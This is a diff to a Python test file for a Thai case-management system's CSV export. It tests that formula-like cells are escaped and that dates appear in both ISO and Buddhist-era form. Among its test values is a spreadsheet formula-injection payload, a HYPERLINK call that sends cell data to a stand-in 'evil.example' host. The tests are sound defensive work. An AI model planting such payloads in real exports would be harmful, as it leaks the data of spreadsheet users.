@@ -3,7 +3,9 @@ a query budget, confidential types and department scope."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 from typing import Any
 from urllib.parse import parse_qsl
 
@@ -16,6 +18,7 @@ from onestop.cases.models import Case, Priority
 from onestop.cases.services import By, case_assign, case_transition
 from onestop.cases.workflow import Actor, Status
 from onestop.core.models import AuditAction, AuditLog
+from onestop.core.spreadsheets import safe_cell
 from onestop.organisations.models import Organisation
 from tests.backoffice_helpers import sign_in
 from tests.conftest import Staff
@@ -522,3 +525,46 @@ def test_confidential_complaints_are_never_exported_even_for_the_executive(
     text = _csv(sign_in(client, staff_a.executive).get("/staff/wangchao/export.csv"))
     assert secret.display_number not in text
     assert "ทุจริตจัดซื้อ" not in text
+
+
+def test_the_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    org_a: Organisation, staff_a: Staff, client: Client
+) -> None:
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
+        "@SUM(1)",
+        "+66 ไฟดับ",
+        "-1 ถนนพัง",
+    ]
+    for subject in hostile:
+        make_case(org_a, subject=subject)
+    text = _csv(sign_in(client, staff_a.counter).get("/staff/wangchao/export.csv"))
+    rows = list(csv.reader(io.StringIO(text)))
+    subjects = {row[1] for row in rows[1:]}
+    assert subjects == {"'" + subject for subject in hostile}
+    # No cell at all starts a formula.
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
+
+
+def test_a_cell_starting_with_a_tab_or_a_carriage_return_is_neutralised_too() -> None:
+    # The request forms strip these from the ends of what is typed; the export does not rely
+    # on it.
+    assert safe_cell("\t=1+1") == "'\t=1+1"
+    assert safe_cell("\r=1+1") == "'\r=1+1"
+    assert safe_cell("ไฟดับ = 3 ดวง") == "ไฟดับ = 3 ดวง"
+    assert safe_cell(None) == ""
+
+
+def test_the_export_has_dates_in_iso_and_in_the_buddhist_era(
+    org_a: Organisation, staff_a: Staff, client: Client
+) -> None:
+    case = make_case(org_a)
+    text = _csv(sign_in(client, staff_a.counter).get("/staff/wangchao/export.csv"))
+    header, row = list(csv.reader(io.StringIO(text)))
+    record = dict(zip(header, row, strict=True))
+    submitted = timezone.localtime(case.submitted_at)
+    assert record["ยื่นเมื่อ (ค.ศ.)"] == submitted.strftime("%Y-%m-%d %H:%M")
+    assert record["ยื่นเมื่อ (พ.ศ.)"] == (f"{submitted:%d/%m}/{submitted.year + 543} {submitted:%H:%M}")
+    assert case.due_date is not None
+    assert record["กำหนดแล้วเสร็จ (ค.ศ.)"] == case.due_date.isoformat()
+    assert record["กำหนดแล้วเสร็จ (พ.ศ.)"] == (f"{case.due_date:%d/%m}/{case.due_date.year + 543}")
